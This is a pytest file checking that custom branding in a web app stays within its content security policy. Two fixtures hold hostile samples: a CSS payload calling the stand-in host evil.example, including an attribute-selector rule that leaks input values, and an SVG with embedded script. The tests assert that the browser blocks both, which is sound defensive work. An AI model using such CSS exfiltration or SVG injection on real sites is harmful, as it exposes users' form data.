"""An author's own touch, within what the pages promise."""

from pathlib import Path

import pytest
from playwright.async_api import Browser

from askback.errors import OperatorError
from askback.pages import Brand
from tests.support.visit_pages import WHO, by_function, in_a_browser, outside
from tests.support.visitor import visitor

PICTURE = (
    '<svg xmlns="http://www.w3.org/2000/svg" width="90" height="30"><rect width="90" height="30"/></svg>'
)

GREEDY = """
@import url("https://evil.example/more.css");
@font-face { font-family: Evil; src: url("https://evil.example/evil.woff2"); }
body { font-family: Evil; background: rgb(1, 2, 3) url("https://evil.example/seen.png"); }
input[value^="a"] { background: url("https://evil.example/a.png"); }
"""

SCRIPTED = '<svg xmlns="http://www.w3.org/2000/svg"><script>document.title = "taken"</script></svg>'


def branded(folder: Path, *, style: str = "", logo: str = PICTURE) -> Brand:
    (folder / "brand.css").write_text(style)
    (folder / "logo.svg").write_text(logo)
    return Brand(
        name="Weather & <Sons>", logo=folder / "logo.svg", style=folder / "brand.css", foot="Run by <b>us</b>"
    )


async def test_name_logo_style_and_foot_are_shown_and_the_server_still_says_its_name(tmp_path: Path) -> None:
    grounds = outside(by_function(brand=branded(tmp_path, style="h1 { color: tomato }")))
    async with visitor(grounds.app) as ada:
        ada.client.headers[WHO] = "ada"
        shown = await ada.open(await grounds.secret())
        assert "Weather &amp; &lt;Sons&gt;" in shown.html and "Run by &lt;b&gt;us&lt;/b&gt;" in shown.html
        assert shown.heading == "weather asks for your weather key"
        for name, kind in {"brand.css": "text/css; charset=utf-8", "brand.svg": "image/svg+xml"}.items():
            assert f"/askback/{name}" in shown.html
            answer = await ada.client.get(f"{grounds.base}/{name}")
            assert (answer.status_code, answer.headers["content-type"]) == (200, kind)


@pytest.mark.verifies("R88", "R81")
async def test_a_brand_leaves_the_policy_as_it_is(tmp_path: Path) -> None:
    policies: list[str] = []
    for brand in (Brand(), branded(tmp_path, style=GREEDY, logo=SCRIPTED)):
        grounds = outside(by_function(brand=brand))
        async with visitor(grounds.app) as ada:
            ada.client.headers[WHO] = "ada"
            links = [await grounds.secret(), f"{grounds.base}/kept", f"{grounds.base}/brand.svg"]
            policies += [(await ada.client.get(link)).headers["content-security-policy"] for link in links]
    assert len(set(policies)) == 1 and "form-action 'self';" in policies[0]


@pytest.mark.browser
@pytest.mark.verifies("R88", "T16")
async def test_a_brand_that_wants_more_than_that_is_stopped_by_the_browser(
    browser: Browser, tmp_path: Path
) -> None:
    brand = branded(tmp_path, style=GREEDY, logo=SCRIPTED)
    async with in_a_browser(brand=brand) as grounds:
        context = await browser.new_context(extra_http_headers={WHO: "ada"})
        went: list[str] = []
        context.on("requestfinished", lambda request: went.append(request.url))
        page = await context.new_page()
        await page.goto(await grounds.secret(), wait_until="networkidle")
        assert (
            await page.locator("body").evaluate("it => getComputedStyle(it).backgroundColor")
            == "rgb(1, 2, 3)"
        )
        await page.goto(f"{grounds.base}/brand.svg", wait_until="networkidle")
        assert await page.evaluate("document.title") == ""
        await context.close()
        assert went and all(url.startswith(grounds.base) for url in went)


@pytest.mark.parametrize(
    ("brand", "says"),
    [
        (Brand(logo=Path("logo.css")), "logo.css is no .svg or .png file"),
        (Brand(style=Path("style.svg")), "style.svg is no .css file"),
        (Brand(logo=Path("logo.html")), "logo.html is no"),
        (Brand(logo=Path("nowhere.png")), "nowhere.png cannot be read: No such file"),
    ],
    ids=["a style as logo", "a picture as style", "a page as logo", "no file"],
)
async def test_a_file_that_is_no_brand_is_said_when_the_server_is_built(brand: Brand, says: str) -> None:
    with pytest.raises(OperatorError, match=says):
        outside(by_function(brand=brand))
